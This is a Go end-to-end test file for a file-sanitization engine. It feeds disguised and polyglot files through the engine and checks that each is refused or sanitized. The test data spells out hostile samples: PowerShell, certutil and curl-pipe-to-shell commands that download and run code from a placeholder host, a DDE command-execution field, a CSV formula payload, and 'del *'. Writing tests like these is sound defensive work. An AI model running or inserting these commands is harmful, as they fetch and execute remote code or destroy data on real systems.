package e2e

import (
	"fmt"
	"strings"
	"testing"

	"github.com/sekisho/sekisho/sanitize"
)

// refused is any verdict without output.
const refused = "refused"

// verdictOK reports whether got satisfies want, where want is a verdict or "refused"
// (quarantined, blocked or stripped) or "delivered" (clean or sanitized).
func verdictOK(got sanitize.Verdict, want string) bool {
	switch want {
	case refused:
		return !got.HasOutput()
	case "delivered":
		return got.HasOutput()
	case "safe":
		return true // refused, or delivered and then re-checked like any output
	}
	return string(got) == want
}

type advCase struct {
	name     string // the class of bypass and the variant
	file     string // declared file name
	declared string // declared MIME type
	data     []byte
	want     string // verdict, "refused" or "delivered"
	outName  string // when delivered: the name the output must carry ("" = no check)
}

// runCases feeds each case through the engine and checks the verdict, the output's
// independent re-parse and, where set, its delivered name.
func runCases(t *testing.T, cases []advCase) {
	t.Helper()
	runCasesJudged(t, cases, nil)
}

// runCasesJudged is runCases with one more judge of each delivered output, given the
// name it is delivered under; its findings fail the case.
func runCasesJudged(t *testing.T, cases []advCase, judge func(t *testing.T, out []byte, name string) []string) {
	t.Helper()
	e := newEngine(t, sanitize.Limits{})
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			record(t, c)
			if k := knownBypass[c.name]; k != "" {
				t.Skip("known bypass: " + k)
			}
			out, res := run(t, e, c.file, c.declared, c.data)
			t.Logf("%s: %s %s", res.Detected.Name, res.Verdict, summarize(res))
			if !verdictOK(res.Verdict, c.want) {
				t.Fatalf("Sanitize(%q) = %s (%s, detected %s), want %s", c.file, res.Verdict, res.Reason, res.Detected.Name, c.want)
			}
			if !res.Verdict.HasOutput() {
				return
			}
			if err := reparse(outResult(res, c.file), out); err != nil {
				t.Errorf("Sanitize(%q) = %s: %v", c.file, res.Verdict, err)
			}
			name := deliveredName(res, c.file)
			if c.outName != "" && name != c.outName {
				t.Errorf("delivered name = %q, want %q", name, c.outName)
			}
			if judge == nil {
				return
			}
			if f := judge(t, out, name); len(f) > 0 {
				t.Errorf("Sanitize(%q) = %s: %s", c.file, res.Verdict, strings.Join(f, "; "))
			}
		})
	}
}

// deliveredName is the name a consumer (mail, archive, transfer) gives the output.
func deliveredName(res sanitize.Result, in string) string {
	if res.OutName != "" {
		return res.OutName
	}
	return in
}

// outResult fills OutName with the delivered name so that reparse judges the output
// under the name it will actually carry.
func outResult(res sanitize.Result, in string) sanitize.Result {
	res.OutName = deliveredName(res, in)
	return res
}

// TestTypeConfusion covers polyglots and content that hides behind another type's name:
// content picks the handler, and the delivered output must be inert under the name it
// carries.
func TestTypeConfusion(t *testing.T) {
	js := pdfJS()
	zipExe := mkzip(t, zipEntry{"a.exe", "MZ\x90\x00"})
	svgScript := `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>`
	cases := []advCase{
		// PDF readers accept up to 1 KB of junk before the header.
		{"pdf/junk-before-header-text", "invoice.pdf", "", []byte(junk(1000) + "\n" + string(js)), "sanitized", ""},
		{"pdf/junk-before-header-binary", "invoice.pdf", "", append([]byte("\x00\x01\x02\x03"+junk(500)+"\n"), js...), "sanitized", ""},
		{"pdf/junk-before-header-named-txt", "notes.txt", "", []byte(junk(700) + "\n" + string(js)), "sanitized", ""},
		{"pdf/pdf+zip-polyglot", "invoice.pdf", "", append(append([]byte{}, js...), zipExe...), "sanitized", "invoice.pdf"},
		{"pdf/pdf+html-polyglot", "invoice.pdf", "", append(append([]byte{}, js...), "<html><script>alert(1)</script></html>"...), "sanitized", "invoice.pdf"},
		{"pdf/named-html", "invoice.html", "", js, "sanitized", "invoice.pdf"},
		// Images with a payload after the end marker.
		{"image/gifar-jpeg+jar", "photo.jpg", "", append(readFile(t, "img/photo.jpg"), mkzip(t, zipEntry{"META-INF/MANIFEST.MF", "Main-Class: A\n"}, zipEntry{"A.class", "\xca\xfe\xba\xbe"})...), "sanitized", "photo.jpg"},
		{"image/png+html", "graphic.png", "", append(readFile(t, "img/graphic.png"), "<html><script>alert(1)</script></html>"...), "sanitized", "graphic.png"},
		{"image/png-named-svg", "graphic.svg", "", readFile(t, "img/graphic.png"), "sanitized", "graphic.png"},
		// Markup with script behind a text name or after a text first line.
		{"markup/svg-named-txt", "picture.txt", "", []byte(svgScript), refused, ""},
		{"markup/svg-after-text-line-named-svg", "picture.svg", "", []byte("hello\n" + svgScript), refused, ""},
		{"markup/html-after-text-line-named-htm", "page.htm", "", []byte("hello\n<script>alert(1)</script>"), "sanitized", "page.txt"},
		{"markup/html-after-text-line-named-xht", "page.xht", "", []byte("hello\n<script>alert(1)</script>"), "sanitized", "page.txt"},
		{"markup/html-named-csv", "data.csv", "", []byte("<html><body><table><tr><td>=cmd|' /c calc'!A0</td></tr></table></body></html>"), "sanitized", ""},
		{"markup/xml-stylesheet-named-xml", "data.xml", "", []byte(`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://example.invalid/a.xsl"?><a/>`), "sanitized", "data.txt"},
		{"markup/xsl-named-xsl", "style.xsl", "", []byte(`<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:msxsl="urn:schemas-microsoft-com:xslt"><msxsl:script>x</msxsl:script></xsl:stylesheet>`), "sanitized", "style.txt"},
		{"markup/html-in-text-named-doc", "report.doc", "", []byte("report\n<html><link rel=import href=http://example.invalid/x></html>"), "sanitized", "report.txt"},
		{"markup/html-utf16-bom-named-txt", "page.txt", "", append([]byte{0xff, 0xfe}, utf16le("<html><script>alert(1)</script></html>")...), "delivered", "page.txt"},
		// Without a BOM the page is named by its decoded start, as with one: HTML, converted to text.
		{"markup/utf16-no-bom", "page.txt", "", utf16le("<html><script>alert(1)</script> hello world</html>"), "delivered", "page.txt"},
		{"markup/utf32-no-bom", "page.txt", "", utf32le("<script>alert(1)</script>"), refused, ""},
		// Scripts without a #! line.
		{"script/vbscript-named-txt", "readme.txt", "", []byte("Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc.exe\"\r\n"), refused, ""},
		{"script/jscript-named-log", "server.log", "", []byte("var s = new ActiveXObject(\"WScript.Shell\"); s.Run(\"calc\");\n"), refused, ""},
		{"script/powershell-named-txt", "notes.txt", "", []byte("IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a')\r\n"), refused, ""},
		{"script/powershell-encoded-named-csv", "data.txt", "", []byte("powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgA\r\n"), refused, ""},
		{"script/batch-named-txt", "list.txt", "", []byte("@echo off\r\ncertutil -urlcache -f http://example.invalid/a a.exe\r\n"), refused, ""},
		{"script/hta-named-txt", "page.txt", "", []byte(`<html><head><hta:application id="x"/><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></head></html>`), refused, ""},
		{"script/shell-shebang-named-txt", "run.txt", "", []byte("#!/bin/sh\ncurl http://example.invalid | sh\n"), refused, ""},
		{"script/eicar-named-txt", "eicar.txt", "", []byte(eicarString()), refused, ""},
		// Executable formats by magic under an innocent name.
		{"magic/pe-named-pdf", "invoice.pdf", "", append([]byte("MZ\x90\x00\x03"), make([]byte, 200)...), refused, ""},
		{"magic/elf-named-txt", "notes.txt", "", append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 64)...), refused, ""},
		{"magic/lnk-named-pdf", "invoice.pdf", "", append([]byte("L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"), make([]byte, 100)...), refused, ""},
		{"magic/iso-named-pdf", "invoice.pdf", "", isoImage(), refused, ""},
		{"magic/vhd-named-pdf", "invoice.pdf", "", append(make([]byte, 512), []byte("conectix")...), refused, ""},
		{"magic/chm-named-pdf", "invoice.pdf", "", append([]byte("ITSF\x03\x00\x00\x00"), make([]byte, 100)...), refused, ""},
		{"magic/onenote-named-pdf", "invoice.pdf", "", append([]byte{0xe4, 0x52, 0x5c, 0x7b, 0x8c, 0xd8, 0xa7, 0x4d, 0xae, 0xb1, 0x53, 0x78, 0xd0, 0x29, 0x96, 0xd3}, make([]byte, 100)...), refused, ""},
		{"magic/msi-named-doc", "invoice.doc", "", msiFromDoc(t), refused, ""},
		{"magic/class-named-txt", "notes.txt", "", append([]byte{0xca, 0xfe, 0xba, 0xbe, 0x00, 0x00, 0x00, 0x34}, make([]byte, 50)...), refused, ""},
		// Zips that claim to be Office documents.
		{"zip/docx-first-entry-but-exe", "invoice.docx", "", mkzip(t, zipEntry{"word/document.xml", "<w:document/>"}, zipEntry{"evil.exe", "MZ\x90\x00"}), refused, ""},
		{"zip/docx-without-content-types", "invoice.docx", "", mkzip(t, docxParts()[1:]...), refused, ""},
		{"zip/docx-duplicate-content-types", "invoice.docx", "", mkzip(t, append(docxParts(), zipEntry{"[Content_Types].xml", strings.Replace(docxParts()[0].body, "wordprocessingml.document.main+xml", "template.main+xml", 1)})...), refused, ""},
		{"zip/docx-duplicate-document", "invoice.docx", "", mkzip(t, append(docxParts(), zipEntry{"word/document.xml", `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r></w:p></w:body></w:document>`})...), refused, ""},
		{"zip/jar-named-zip", "files.zip", "", mkzip(t, zipEntry{"META-INF/MANIFEST.MF", "Main-Class: A\n"}, zipEntry{"A.class", "\xca\xfe\xba\xbe"}), refused, ""},
		{"zip/only-an-exe", "files.zip", "", zipExe, refused, ""},
		{"zip/exe-beside-text", "files.zip", "", mkzip(t, zipEntry{"readme.txt", "hello"}, zipEntry{"setup.exe", "MZ\x90\x00"}, zipEntry{"run.txt", "@echo off\r\ndel *\r\n"}), "sanitized", "files.zip"},
	}
	runCases(t, cases)
}

// summarize lists the actions of a result in one line, for -v runs.
func summarize(res sanitize.Result) string {
	var b strings.Builder
	b.WriteString(res.Reason)
	for _, a := range res.Actions {
		fmt.Fprintf(&b, " [%s %s: %s]", a.Kind, a.Path, a.Detail)
	}
	return b.String()
}

// knownBypass lists the open bypasses that live inside a family, by case name, as
// "<family>: <one line>". The case is skipped until the family's owner fixes it; delete
// the entry to see it fail.
var knownBypass = map[string]string{}
